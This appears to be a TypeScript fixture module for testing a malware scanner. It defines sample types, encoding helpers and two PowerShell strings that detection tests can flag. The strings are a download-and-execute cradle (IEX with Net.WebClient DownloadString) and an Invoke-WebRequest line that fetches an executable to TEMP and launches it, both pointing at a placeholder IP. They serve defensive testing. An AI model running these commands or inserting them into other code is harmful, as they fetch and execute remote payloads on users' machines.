// A harmless file that shows the traits of an attack: names under .test, commands that start calculators, code that is never
// run. Each names the least label and the reasons that must be among its findings (of the file or of one inside it).

export interface Suspect {
  readonly name: string
  readonly bytes: Uint8Array
  readonly label: 'suspicious' | 'malicious'
  readonly reasons: readonly string[]
}

export const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
export const b64 = (text: string): string => Buffer.from(text).toString('base64')

export const text = (name: string, label: Suspect['label'], reasons: readonly string[], body: string): Suspect => ({
  name,
  bytes: Buffer.from(body),
  label,
  reasons,
})

export const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"

export const fetchAndRun =
  'Invoke-WebRequest -Uri http://203.0.113.7/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe'
